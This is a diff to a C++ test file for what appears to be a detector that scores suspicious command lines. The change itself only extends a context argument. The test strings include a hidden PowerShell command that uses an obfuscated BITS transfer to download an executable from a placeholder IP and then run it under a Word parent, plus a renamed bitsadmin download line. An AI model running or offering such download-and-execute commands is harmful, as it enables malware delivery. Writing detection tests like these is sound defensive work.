@@ -139,7 +139,7 @@ TEST(Explanation, SaysWhereTheScoreEndsBeforeItsSum) {
       "powershell -w hidden -ep bypass -c \"&('Start-Bits'+'Transfer') "
       "http://198.51.100.9:8081/a.exe "
       "C:\\Users\\Public\\a.exe; C:\\Users\\Public\\a.exe\"",
-      {"", "", "powershell.exe", "WINWORD.EXE"});
+      {"", "", "powershell.exe", "WINWORD.EXE", "", {}});
   const Score score = score_of(text);
   EXPECT_EQ(score.heading, 100) << text;
   EXPECT_GT(score.sum, 100);
@@ -152,7 +152,7 @@ TEST(Explanation, KnowsWhatSurroundsTheLine) {
   EXPECT_TRUE(holds(explained("C:\\x\\upd.exe /transfer j http://example.com/a.txt C:\\a.txt", {},
                               "bitsadmin.exe"),
                     "renamed-program"));
-  EXPECT_TRUE(holds(explained(kPlain, {"", "", "", "WINWORD.EXE"}), "office-parent"));
+  EXPECT_TRUE(holds(explained(kPlain, {"", "", "", "WINWORD.EXE", "", {}}), "office-parent"));
 }
 
 TEST(Explanation, MasksSecretsWhereverTheyStand) {
